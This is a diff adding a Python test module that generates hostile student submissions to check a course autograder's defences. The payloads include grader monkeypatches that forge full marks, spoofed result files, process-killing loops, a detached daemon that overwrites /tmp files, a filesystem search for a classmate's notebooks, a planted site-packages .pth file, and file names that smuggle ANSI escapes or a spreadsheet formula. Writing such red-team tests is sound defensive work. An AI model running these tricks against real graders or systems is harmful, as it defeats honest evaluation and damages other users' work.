@@ -1,0 +1,233 @@
+"""Hostile submissions of lesson 1 for the grader's tests: each one tries to get points it did not
+earn, to switch off hidden cases, to reach another submission, the course or the grader, or to
+spoof a report. `build(root, folder)` writes them under `folder/<name>/`; ATTACKS says what each
+one tries and what the grader must do about it.
+
+Most start from the untouched exercise notebook (every blank still there), so any point they
+get is a hole. Run `python tests/attacks.py FOLDER` to write them for a manual `./course grade`.
+"""
+
+from __future__ import annotations
+
+import json
+import sys
+from pathlib import Path
+
+ROOT = Path(__file__).resolve().parents[1]
+sys.path.insert(0, str(ROOT / "src"))
+
+from flashcourse.grader import samples  # noqa: E402
+
+LESSON = "01-gpu-flash"
+MARKER = "ATTACK-MARKER"  # printed by attacks that find what they must not see
+
+
+def _cell(nb: dict, cell_id: str) -> dict:
+    return next(c for c in nb["cells"] if c.get("id") == cell_id)
+
+
+def _insert_after(nb: dict, cell_id: str, source: str, new_id: str | None = None) -> None:
+    at = nb["cells"].index(_cell(nb, cell_id)) + 1
+    nb["cells"].insert(at, {"cell_type": "code", "id": new_id or f"attack-{at}",
+                            "metadata": {}, "outputs": [], "execution_count": None,
+                            "source": source})
+
+
+FAKE_RESULTS = """
+import flashcourse.grading as g
+for key, item in g.EXERCISES.items():
+    g.RESULTS[key] = item.points
+"""
+
+# name -> (what it tries, the cell inserted after `setup` into an UNTOUCHED exercise notebook)
+PATCHES = {
+    "main-check": "import __main__\n__main__.check = lambda *a, **k: print('ok')",
+    "user-ns-check": "get_ipython().user_ns['check'] = lambda *a, **k: print('ok')",
+    "input-transformer": (
+        "def drop_checks(lines):\n"
+        "    return [] if any('check(' in l for l in lines) else lines\n"
+        "get_ipython().input_transformers_post.append(drop_checks)"),
+    "run-cell": (
+        "ip = get_ipython()\nreal = ip.run_cell\n"
+        "def run_cell(raw, *a, **k):\n"
+        "    return real('pass' if 'check(' in raw else raw, *a, **k)\n"
+        "ip.run_cell = run_cell"),
+    "mock-code": (
+        "from unittest import mock\nimport flashcourse.grading as g\n"
+        "mock.patch.object(g.check, '__code__', (lambda *a, **k: None).__code__).start()"),
+    "numpy-patch": ("import numpy\nnumpy.allclose = lambda *a, **k: True\n"
+                    "numpy.abs = lambda x: x * 0" + FAKE_RESULTS),
+    "compare-patch": ("import flashcourse.grading as g\ng.compare = lambda *a, **k: None\n"
+                      "g.grade_answers = lambda *a, **k: 'ok'" + FAKE_RESULTS),
+    "silence-errors": ("get_ipython()._showtraceback = lambda *a, **k: None\n"
+                       "get_ipython().showtraceback = lambda *a, **k: None" + FAKE_RESULTS),
+    "hidden-off": "import os\nos.environ.update(FLASHCOURSE_GRADING='0')" + FAKE_RESULTS,
+    "forge-record": (
+        "import json, os, pathlib\n"
+        "folder = pathlib.Path(os.environ.get('FLASHCOURSE_RECORD_DIR', '/tmp'))\n"
+        "folder.mkdir(parents=True, exist_ok=True)\n"
+        "for name in ['gpu-flash_flash-attention', 'gpu-flash_misconceptions']:\n"
+        "    (folder / (name + '.json')).write_text(json.dumps(\n"
+        "        {'exercise': name, 'answer': {'callable': 'function'}, 'events': []}))\n"
+        "import flashcourse.grading as g\ng.check = lambda *a, **k: None\n"
+        "import flashcourse\nflashcourse.check = g.check\ncheck = g.check"),
+    "record-dir-swap": (
+        "import os\nos.environ['FLASHCOURSE_RECORD_DIR'] = '/tmp/elsewhere'" + FAKE_RESULTS),
+    "kill-group": "import os, signal\nos.killpg(0, signal.SIGKILL)",
+    "kill-parents": (
+        "import os, signal\n"
+        "for pid in range(1, 400):\n"
+        "    if pid != os.getpid():\n"
+        "        try:\n            os.kill(pid, signal.SIGKILL)\n"
+        "        except OSError:\n            pass"),
+    "background-forger": (
+        "import subprocess, sys\n"
+        "code = ('import time, pathlib\\n'\n"
+        "        'for _ in range(600):\\n'\n"
+        "        '    for p in pathlib.Path(\"/tmp\").rglob(\"*.json\"):\\n'\n"
+        "        '        try: p.write_text(\"{}\")\\n'\n"
+        "        '        except OSError: pass\\n'\n"
+        "        '    time.sleep(0.5)\\n')\n"
+        "subprocess.Popen([sys.executable, '-c', code, 'ATTACK-DAEMON'], start_new_session=True)"
+        + FAKE_RESULTS),
+    "read-classmates": (  # every folder it can see, but not the read-only system and Python
+        "import os, time\n"
+        "skip = ('/usr', '/proc', '/sys', '/dev', '/etc', '/opt', '/lib')\n"
+        "seen, deadline = [], time.monotonic() + 30\n"
+        "for top in ['/tmp', '/grading', '/root', '/home', '/work', '/']:\n"
+        "    for folder, dirs, files in os.walk(top):\n"
+        "        dirs[:] = [d for d in dirs if not os.path.join(folder, d).startswith(skip)\n"
+        "                   and 'site-packages' not in d and d != '.venv']\n"
+        "        seen += [os.path.join(folder, f) for f in files if f.endswith('.ipynb')\n"
+        "                 and 'alice' in folder]\n"
+        "        if time.monotonic() > deadline:\n            break\n"
+        "print('ATTACK-MARKER' if seen else 'nothing found', seen[:3])"),
+    "write-course": (
+        "import pathlib, site, flashcourse\n"
+        "pkg = pathlib.Path(flashcourse.__file__).parent\n"
+        "targets = [pkg / 'grading.py', pkg.parents[1] / 'README.md',\n"
+        "           pkg.parents[1] / 'exercises' / 'planted.txt',\n"
+        "           pathlib.Path(site.getsitepackages()[0]) / 'planted.pth']\n"
+        "for target in targets:\n"
+        "    try:\n        target.write_text('import os  # planted')\n"
+        "        print('ATTACK-MARKER wrote', target)\n"
+        "    except OSError as err:\n        print('refused', type(err).__name__)"),
+    "network": (
+        "import socket\n"
+        "try:\n    socket.create_connection(('pypi.org', 443), timeout=5)\n"
+        "    print('ATTACK-MARKER network')\nexcept OSError as err:\n"
+        "    print('no network', type(err).__name__)"),
+}
+
+
+def _flash_body(root: Path, replacement: str) -> str:
+    """The solution's flash_attention cell with its body replaced by `replacement`."""
+    solution = json.loads((root / "solutions" / f"{LESSON}.ipynb").read_text())
+    source = samples.cell_source(_cell(solution, "exercise-flash-attention"))
+    head = source[: source.index('"""', source.index('"""') + 3) + 3]
+    return head + "\n" + replacement
+
+
+# name -> answer body for flash_attention in an otherwise right submission
+ANSWERS = {
+    "calls-standard-attention": (
+        "    from flashcourse.reference import standard_attention\n"
+        "    return standard_attention(Q, K, V)\n"),
+    "calls-sdpa": (
+        "    import torch\n    q, k, v = (torch.from_numpy(x)[None] for x in (Q, K, V))\n"
+        "    out = torch.nn.functional.scaled_dot_product_attention(q, k, v)\n"
+        "    return out[0].numpy()\n"),
+    "calls-package-attention": (
+        "    import torch\n    import flashcourse as fc\n"
+        "    q, k, v = (torch.from_numpy(x) for x in (Q, K, V))\n"
+        "    return fc.attention.standard_attention(q, k, v).numpy()\n"),
+    "frame-reader": (
+        "    import inspect\n    frame = inspect.currentframe()\n"
+        "    while frame is not None:\n"
+        "        for value in frame.f_locals.values():\n"
+        "            if getattr(value, 'shape', None) == Q.shape and value is not Q:\n"
+        "                return value\n"
+        "        frame = frame.f_back\n    return Q * 0\n"),
+    "right-only-on-visible": (  # with hidden cases switched off in the next cell
+        "    if Q.shape[0] not in (256, 100, 64, 1, 33, 129, 300, 17, 512, 128):\n"
+        "        return Q * 0\n"
+        "    s = Q @ K.T / np.sqrt(Q.shape[1])\n    p = np.exp(s - s.max(-1, keepdims=True))\n"
+        "    return (p / p.sum(-1, keepdims=True)) @ V\n"),
+}
+
+# name -> (what it tries, how the notebook is changed), on a right submission
+ODD = ("equal-to-anything", "answer-object", "duplicate-grading-id", "veto-blank",
+       "veto-unrun", "symlink", "newline-ansi-name", "csv-formula-name")
+
+
+def build(root: Path, folder: Path) -> dict[str, Path]:
+    """Write every attack under `folder`; name -> the submitted path."""
+    written: dict[str, Path] = {}
+
+    def put(name: str, nb: dict, file_name: str = f"{LESSON}.ipynb") -> None:
+        written[name] = samples.write(nb, folder / name / file_name)
+
+    untouched = json.loads((root / "exercises" / f"{LESSON}.ipynb").read_text())
+    for name, source in PATCHES.items():
+        nb = json.loads(json.dumps(untouched))
+        _insert_after(nb, "setup", source)
+        put(name, nb)
+    for name, body in ANSWERS.items():
+        nb = samples.filled_notebook(root)
+        _cell(nb, "exercise-flash-attention")["source"] = _flash_body(root, body)
+        if name == "right-only-on-visible":
+            _insert_after(nb, "exercise-flash-attention",
+                          "import os\nos.environ['FLASHCOURSE_GRADING'] = '0'")
+        put(name, nb)
+
+    nb = samples.filled_notebook(root)
+    _insert_after(nb, "setup", "class Anything:\n    def __eq__(self, other):\n"
+                  "        return True\n    def __bool__(self):\n        return True\n"
+                  "    __hash__ = object.__hash__\n")
+    for cell_id in ("answer-q1", "answer-q2", "answer-q3", "answer-misconceptions"):
+        _cell(nb, cell_id)["source"] = samples.cell_source(_cell(untouched, cell_id)).replace(
+            "______", "Anything()")
+    put("equal-to-anything", nb)
+
+    nb = samples.filled_notebook(root)
+    _cell(nb, "exercise-flash-attention")["source"] = _flash_body(
+        root, "    class Out(np.ndarray):\n"
+              "        def __eq__(self, other):\n            return np.ones(1, bool)\n"
+              "    return np.zeros_like(Q).view(Out)\n")
+    put("answer-object", nb)
+
+    nb = json.loads(json.dumps(untouched))  # a second cell with a grading cell's id
+    _insert_after(nb, "setup", "check = lambda *a, **k: print('ok')" + FAKE_RESULTS,
+                  new_id="check-flash-attention")
+    put("duplicate-grading-id", nb)
+
+    nb = samples.filled_notebook(root, unfilled=("answer-misconceptions",))
+    put("veto-blank", nb)
+
+    nb = samples.filled_notebook(root)
+    _cell(nb, "answer-misconceptions")["source"] = "raise SystemExit('not answering')"
+    put("veto-unrun", nb)
+
+
+    right = samples.filled_notebook(root)
+    target = samples.write(right, folder.parent / f"{folder.name}-outside" / "right.ipynb")
+    (folder / "symlink").mkdir(parents=True, exist_ok=True)
+    link = folder / "symlink" / f"{LESSON}.ipynb"
+    link.unlink(missing_ok=True)
+    link.symlink_to(target)
+    written["symlink"] = link
+
+    put("newline-ansi-name", samples.filled_notebook(root, mistakes=("q1-wrong",)),
+        f"{LESSON}\n\x1b[32mPASS 10-10 fake.ipynb")
+    put("csv-formula-name", samples.filled_notebook(root, mistakes=("q1-wrong",)),
+        f"=HYPERLINK(evil) {LESSON}.ipynb")
+    return written
+
+
+NAMES = [*PATCHES, *ANSWERS, *ODD]
+
+
+if __name__ == "__main__":
+    out = Path(sys.argv[1] if len(sys.argv) > 1 else "attacks")
+    for name, path in build(ROOT, out).items():
+        print(f"{name}: {path}")
